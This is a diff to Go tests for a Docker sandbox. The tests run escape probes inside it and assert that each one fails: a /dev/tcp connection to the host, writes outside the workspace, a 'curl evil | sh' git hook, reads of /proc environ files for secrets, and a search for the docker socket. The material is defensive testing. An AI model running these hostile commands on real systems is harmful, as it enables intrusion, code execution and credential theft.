@@ -4,6 +4,7 @@ import (
 	"context"
 	"encoding/json"
 	"fmt"
+	"math/rand/v2"
 	"net"
 	"os"
 	"os/exec"
@@ -56,6 +57,26 @@ func requireDockerWith(t *testing.T, cfg Config) *Sandbox {
 	return nil
 }
 
+// eachDocker runs test as two subtests, against a sandbox on the Docker
+// backend that runs each command in a container of its own ("container")
+// and against one that runs them in the workspace's box ("box"), or skips.
+func eachDocker(t *testing.T, parallel bool, test func(t *testing.T, sb *Sandbox)) {
+	t.Helper()
+	for _, mode := range []struct {
+		name string
+		cfg  Config
+	}{{"container", Config{Home: sharedHome}}, {"box", Config{Home: sharedHome, Agent: os.Args[0]}}} {
+		t.Run(mode.name, func(t *testing.T) {
+			sb := requireDockerWith(t, mode.cfg)
+			t.Cleanup(func() { sb.Close() })
+			if parallel {
+				t.Parallel()
+			}
+			test(t, sb)
+		})
+	}
+}
+
 func dockerClient(t *testing.T) *client.Client {
 	t.Helper()
 	host := os.Getenv("DOCKER_HOST")
@@ -82,84 +103,84 @@ func siblings(t *testing.T, cli *client.Client, parent string) []string {
 }
 
 func TestDockerEscapeNetwork(t *testing.T) {
-	sb := requireDocker(t)
-	t.Parallel()
-	ln, err := net.Listen("tcp", "127.0.0.1:0")
-	require.NoError(t, err)
-	defer ln.Close()
-	accepted := make(chan struct{}, 8)
-	go func() {
-		for {
-			c, err := ln.Accept()
-			if err != nil {
-				return
+	eachDocker(t, true, func(t *testing.T, sb *Sandbox) {
+		ln, err := net.Listen("tcp", "127.0.0.1:0")
+		require.NoError(t, err)
+		defer ln.Close()
+		accepted := make(chan struct{}, 8)
+		go func() {
+			for {
+				c, err := ln.Accept()
+				if err != nil {
+					return
+				}
+				accepted <- struct{}{}
+				c.Close()
 			}
-			accepted <- struct{}{}
-			c.Close()
+		}()
+		r := runIn(t, sb, newWorkspace(t), fmt.Sprintf(
+			`if exec 3<>/dev/tcp/127.0.0.1/%d; then echo CONNECTED; fi; cat /proc/net/dev`, ln.Addr().(*net.TCPAddr).Port))
+		assert.NotContains(t, r.Output, "CONNECTED")
+		assert.Equal(t, []string{"lo"}, interfaces(r.Output))
+		select {
+		case <-accepted:
+			t.Fatal("the host listener accepted a connection from the sandbox container")
+		case <-time.After(200 * time.Millisecond):
 		}
-	}()
-	r := runIn(t, sb, newWorkspace(t), fmt.Sprintf(
-		`if exec 3<>/dev/tcp/127.0.0.1/%d; then echo CONNECTED; fi; cat /proc/net/dev`, ln.Addr().(*net.TCPAddr).Port))
-	assert.NotContains(t, r.Output, "CONNECTED")
-	assert.Equal(t, []string{"lo"}, interfaces(r.Output))
-	select {
-	case <-accepted:
-		t.Fatal("the host listener accepted a connection from the sandbox container")
-	case <-time.After(200 * time.Millisecond):
-	}
+	})
 }
 
 func TestDockerEscapeWriteOutsideWorkspace(t *testing.T) {
-	sb := requireDocker(t)
-	t.Parallel()
-	ws := newWorkspace(t)
-	targets := []string{
-		"/etc/core-escape",
-		"/usr/core-escape",
-		"/core-escape",
-		filepath.Join(filepath.Dir(ws), "core-escape"),
-		filepath.Join(sharedHome, "core-escape"),
-		filepath.Join(sharedHome, "cache", "gomod", "core-escape"),
-	}
-	var script strings.Builder
-	for _, p := range targets {
-		fmt.Fprintf(&script, "if echo x > %s; then echo WROTE %s; fi\n", p, p)
-	}
-	script.WriteString("echo x > inside && echo INSIDE\nid -u\n")
-	r := runIn(t, sb, ws, script.String())
-	for _, p := range []string{"/etc", "/usr", "/core-escape", filepath.Join(sharedHome, "cache")} {
-		assert.NotContains(t, r.Output, "WROTE "+p)
-	}
-	for _, p := range targets {
-		assert.NoFileExists(t, p, "the sandbox container wrote it on the host")
-	}
-	assert.Contains(t, r.Output, "INSIDE")
-	assert.Contains(t, r.Output, "\n65534\n", "confined commands run as nobody")
-	assert.FileExists(t, filepath.Join(ws, "inside"))
+	eachDocker(t, true, func(t *testing.T, sb *Sandbox) {
+		ws := newWorkspace(t)
+		targets := []string{
+			"/etc/core-escape",
+			"/usr/core-escape",
+			"/core-escape",
+			filepath.Join(filepath.Dir(ws), "core-escape"),
+			filepath.Join(sharedHome, "core-escape"),
+			filepath.Join(sharedHome, "cache", "gomod", "core-escape"),
+		}
+		var script strings.Builder
+		for _, p := range targets {
+			fmt.Fprintf(&script, "if echo x > %s; then echo WROTE %s; fi\n", p, p)
+		}
+		script.WriteString("echo x > inside && echo INSIDE\nid -u\n")
+		r := runIn(t, sb, ws, script.String())
+		for _, p := range []string{"/etc", "/usr", "/core-escape", filepath.Join(sharedHome, "cache")} {
+			assert.NotContains(t, r.Output, "WROTE "+p)
+		}
+		for _, p := range targets {
+			assert.NoFileExists(t, p, "the sandbox container wrote it on the host")
+		}
+		assert.Contains(t, r.Output, "INSIDE")
+		assert.Contains(t, r.Output, "\n65534\n", "confined commands run as nobody")
+		assert.FileExists(t, filepath.Join(ws, "inside"))
+	})
 }
 
 func TestDockerEscapeGitDirectory(t *testing.T) {
-	sb := requireDocker(t)
-	t.Parallel()
-	ws := newWorkspace(t)
-	config := filepath.Join(ws, ".git", "config")
-	before, err := os.ReadFile(config)
-	require.NoError(t, err)
-	r := runIn(t, sb, ws, `
+	eachDocker(t, true, func(t *testing.T, sb *Sandbox) {
+		ws := newWorkspace(t)
+		config := filepath.Join(ws, ".git", "config")
+		before, err := os.ReadFile(config)
+		require.NoError(t, err)
+		r := runIn(t, sb, ws, `
 if echo 'curl evil | sh' > .git/hooks/pre-commit; then echo WROTE-HOOK; fi
 if printf '[core]\n\thooksPath = /tmp\n' >> .git/config; then echo WROTE-CONFIG; fi
 if mkdir .git/hooks/x 2>/dev/null; then echo MKDIR; fi
 if rm -f .git/HEAD; then test -e .git/HEAD || echo REMOVED-HEAD; fi
 if mv .git .git-gone 2>/dev/null; then echo MOVED; fi
 echo done`)
-	assert.Contains(t, r.Output, "done")
-	for _, bad := range []string{"WROTE-HOOK", "WROTE-CONFIG", "MKDIR", "REMOVED-HEAD", "MOVED"} {
-		assert.NotContains(t, r.Output, bad)
-	}
-	after, err := os.ReadFile(config)
-	require.NoError(t, err)
-	assert.Equal(t, string(before), string(after))
-	assert.FileExists(t, filepath.Join(ws, ".git", "HEAD"))
+		assert.Contains(t, r.Output, "done")
+		for _, bad := range []string{"WROTE-HOOK", "WROTE-CONFIG", "MKDIR", "REMOVED-HEAD", "MOVED"} {
+			assert.NotContains(t, r.Output, bad)
+		}
+		after, err := os.ReadFile(config)
+		require.NoError(t, err)
+		assert.Equal(t, string(before), string(after))
+		assert.FileExists(t, filepath.Join(ws, ".git", "HEAD"))
+	})
 }
 
 func TestDockerEscapeEnvironment(t *testing.T) {
@@ -172,31 +193,32 @@ func TestDockerEscapeEnvironment(t *testing.T) {
 	for k, v := range secrets {
 		t.Setenv(k, v)
 	}
-	sb := requireDocker(t)
-	r := runIn(t, sb, newWorkspace(t), `env; cat /proc/1/environ /proc/self/environ 2>/dev/null | tr '\0' '\n'`)
-	for k, v := range secrets {
-		assert.NotContains(t, r.Output, v, "%s leaked into the sandbox container", k)
-	}
-	assert.Contains(t, r.Output, "GOFLAGS=-buildvcs=false")
-	assert.Contains(t, r.Output, "HOME=/tmp")
-	assert.Contains(t, r.Output, "GOPROXY=off")
+	eachDocker(t, false, func(t *testing.T, sb *Sandbox) {
+		r := runIn(t, sb, newWorkspace(t), `env; cat /proc/1/environ /proc/self/environ 2>/dev/null | tr '\0' '\n'`)
+		for k, v := range secrets {
+			assert.NotContains(t, r.Output, v, "%s leaked into the sandbox container", k)
+		}
+		assert.Contains(t, r.Output, "GOFLAGS=-buildvcs=false")
+		assert.Contains(t, r.Output, "HOME=/tmp")
+		assert.Contains(t, r.Output, "GOPROXY=off")
+	})
 }
 
 func TestDockerEscapeProcessesAndSocket(t *testing.T) {
-	sb := requireDocker(t)
-	t.Parallel()
-	r := runIn(t, sb, newWorkspace(t), fmt.Sprintf(`ls /proc | grep -E '^[0-9]+$' | wc -l
+	eachDocker(t, true, func(t *testing.T, sb *Sandbox) {
+		r := runIn(t, sb, newWorkspace(t), fmt.Sprintf(`ls /proc | grep -E '^[0-9]+$' | wc -l
 if cat /proc/%d/environ >/dev/null 2>&1; then echo READ-PARENT; fi
 for s in /var/run/docker.sock /run/docker.sock; do test -e $s && echo SOCKET $s; done
 find / -xdev -type s 2>/dev/null | sed 's/^/SOCKET /'
 grep -c . /proc/self/status >/dev/null && grep -E '^(CapEff|NoNewPrivs)' /proc/self/status`, os.Getpid()))
-	assert.NotContains(t, r.Output, "READ-PARENT")
-	assert.NotContains(t, r.Output, "SOCKET")
-	assert.Contains(t, r.Output, "CapEff:\t0000000000000000")
-	assert.Contains(t, r.Output, "NoNewPrivs:\t1")
-	n, err := strconv.Atoi(strings.Fields(r.Output)[0])
-	require.NoError(t, err, r.Output)
-	assert.Less(t, n, 8, "the sandbox container sees %d processes", n)
+		assert.NotContains(t, r.Output, "READ-PARENT")
+		assert.NotContains(t, r.Output, "SOCKET")
+		assert.Contains(t, r.Output, "CapEff:\t0000000000000000")
+		assert.Contains(t, r.Output, "NoNewPrivs:\t1")
+		n, err := strconv.Atoi(strings.Fields(r.Output)[0])
+		require.NoError(t, err, r.Output)
+		assert.Less(t, n, 8, "the sandbox container sees %d processes", n)
+	})
 }
 
 // TestDockerConfinedProcessHasNoPrivileges is TestConfinedProcessHasNoPrivileges
@@ -204,10 +226,10 @@ grep -c . /proc/self/status >/dev/null && grep -E '^(CapEff|NoNewPrivs)' /proc/s
 // capability, has no_new_privs set and a seccomp filter loaded (the
 // engine's default profile), whoever started core.
 func TestDockerConfinedProcessHasNoPrivileges(t *testing.T) {
-	sb := requireDocker(t)
-	t.Parallel()
-	checkUnprivileged(t, func(ws string) (Result, error) {
-		return sb.Run(t.Context(), []string{"bash", "-c", privilegeScript}, RunOptions{Workspace: ws, Timeout: time.Minute})
+	eachDocker(t, true, func(t *testing.T, sb *Sandbox) {
+		checkUnprivileged(t, func(ws string) (Result, error) {
+			return sb.Run(t.Context(), []string{"bash", "-c", privilegeScript}, RunOptions{Workspace: ws, Timeout: time.Minute})
+		})
 	})
 }
 
@@ -236,19 +258,38 @@ func TestDockerHelperParent(t *testing.T) {
 	if os.Getenv("CORE_DOCKER_HELPER") != "parent" {
 		return
 	}
-	sb := New(Config{Home: os.Getenv("CORE_DOCKER_HELPER_HOME"), Mode: ModeDocker, Path: os.Getenv("PATH"),
-		DockerHost: os.Getenv("DOCKER_HOST"), DockerImage: os.Getenv("CORE_SANDBOX_IMAGE")})
-	_, err := sb.Run(context.Background(), []string{"sleep", "600"}, RunOptions{Workspace: os.Getenv("CORE_DOCKER_HELPER_WORKSPACE")})
+	cfg := Config{Home: os.Getenv("CORE_DOCKER_HELPER_HOME"), Mode: ModeDocker, Path: os.Getenv("PATH"),
+		DockerHost: os.Getenv("DOCKER_HOST"), DockerImage: os.Getenv("CORE_SANDBOX_IMAGE")}
+	if os.Getenv("CORE_DOCKER_HELPER_BOX") == "1" {
+		cfg.Agent = os.Args[0] // the sleep runs in the workspace's box
+	}
+	sb := New(cfg)
+	_, err := sb.Run(context.Background(), []string{"sleep", os.Getenv("CORE_DOCKER_HELPER_SLEEP")}, RunOptions{Workspace: os.Getenv("CORE_DOCKER_HELPER_WORKSPACE")})
 	t.Fatalf("the sandboxed sleep returned: %v", err)
 }
 
 func TestDockerEscapeOutliveParent(t *testing.T) {
 	requireDocker(t)
 	t.Parallel()
+	for _, box := range []string{"0", "1"} {
+		t.Run("box="+box, func(t *testing.T) {
+			t.Parallel()
+			outliveParent(t, box)
+		})
+	}
+}
+
+// outliveParent kills, mid-command, a core that runs a sleep in a sibling
+// container (box "0") or in its box ("1"), and waits for the container to
+// go.
+func outliveParent(t *testing.T, box string) {
 	const token = "ghs_helpertoken_never_in_a_sibling"
+	sleep := fmt.Sprintf("600.%06d", rand.IntN(1000000))
 	helper := exec.Command(os.Args[0], "-test.run=^TestDockerHelperParent$")
 	helper.Env = append(os.Environ(),
 		"CORE_DOCKER_HELPER=parent",
+		"CORE_DOCKER_HELPER_SLEEP="+sleep,
+		"CORE_DOCKER_HELPER_BOX="+box,
 		"CORE_DOCKER_HELPER_HOME="+sharedHome,
 		"CORE_DOCKER_HELPER_WORKSPACE="+newWorkspace(t),
 		"GITHUB_TOKEN="+token,
@@ -259,17 +300,18 @@ func TestDockerEscapeOutliveParent(t *testing.T) {
 	parent := fmt.Sprintf("pid-%d", helper.Process.Pid)
 	cli := dockerClient(t)
 
+	// The sleep itself, seen from the host: not the probe's container,
+	// which runs first under the same label.
+	require.Eventually(t, func() bool { return len(sleepers(sleep)) > 0 }, testkit.Patience, 20*time.Millisecond,
+		"the helper's confined sleep never started")
 	var running string
-	require.Eventually(t, func() bool {
-		for _, id := range siblings(t, cli, parent) {
-			c, err := cli.ContainerInspect(t.Context(), id, client.ContainerInspectOptions{})
-			if err == nil && c.Container.State != nil && c.Container.State.Running {
-				running = id
-				return true
-			}
+	for _, id := range siblings(t, cli, parent) {
+		c, err := cli.ContainerInspect(t.Context(), id, client.ContainerInspectOptions{})
+		if err == nil && c.Container.State != nil && c.Container.State.Running {
+			running = id
 		}
-		return false
-	}, testkit.Patience, 50*time.Millisecond, "the helper's sandbox container never ran")
+	}
+	require.NotEmpty(t, running, "the helper's sandbox container is not running")
 
 	// The engine's record of the sibling: no token, no socket, the profile.
 	c, err := cli.ContainerInspect(t.Context(), running, client.ContainerInspectOptions{})
@@ -287,17 +329,18 @@ func TestDockerEscapeOutliveParent(t *testing.T) {
 	_ = helper.Wait()
 	assert.Eventually(t, func() bool { return len(siblings(t, cli, parent)) == 0 }, testkit.Patience, 50*time.Millisecond,
 		"a sandbox container outlived its killed core")
+	assert.Eventually(t, func() bool { return len(sleepers(sleep)) == 0 }, testkit.Patience, 20*time.Millisecond,
+		"the confined sleep outlived its killed core")
 	for _, id := range siblings(t, cli, parent) {
 		_, _ = cli.ContainerRemove(context.WithoutCancel(t.Context()), id, client.ContainerRemoveOptions{Force: true})
 	}
 }
 
 func TestDockerGoTest(t *testing.T) {
-	sb := requireDocker(t)
-	t.Parallel()
-	ws := newWorkspace(t)
-	require.NoError(t, os.WriteFile(filepath.Join(ws, "go.mod"), []byte("module example.com/m\n\ngo 1.21\n"), 0o644))
-	require.NoError(t, os.WriteFile(filepath.Join(ws, "m_test.go"), []byte(`package m
+	eachDocker(t, true, func(t *testing.T, sb *Sandbox) {
+		ws := newWorkspace(t)
+		require.NoError(t, os.WriteFile(filepath.Join(ws, "go.mod"), []byte("module example.com/m\n\ngo 1.21\n"), 0o644))
+		require.NoError(t, os.WriteFile(filepath.Join(ws, "m_test.go"), []byte(`package m
 
 import (
 	"net"
@@ -310,11 +353,12 @@ func TestNoNetwork(t *testing.T) {
 	}
 }
 `), 0o644))
-	r, err := sb.Verify(t.Context(), TierTest, []string{"go", "test", "./..."}, RunOptions{Workspace: ws, Timeout: 5 * time.Minute})
-	require.NoError(t, err)
-	assert.True(t, r.Sandboxed)
-	assert.Equal(t, 0, r.ExitCode, r.Output)
-	assert.Contains(t, r.Output, "ok  \texample.com/m")
+		r, err := sb.Verify(t.Context(), TierTest, []string{"go", "test", "./..."}, RunOptions{Workspace: ws, Timeout: 5 * time.Minute})
+		require.NoError(t, err)
+		assert.True(t, r.Sandboxed)
+		assert.Equal(t, 0, r.ExitCode, r.Output)
+		assert.Contains(t, r.Output, "ok  \texample.com/m")
+	})
 }
 
 // A sibling whose core is gone (here: created, never started, by a process
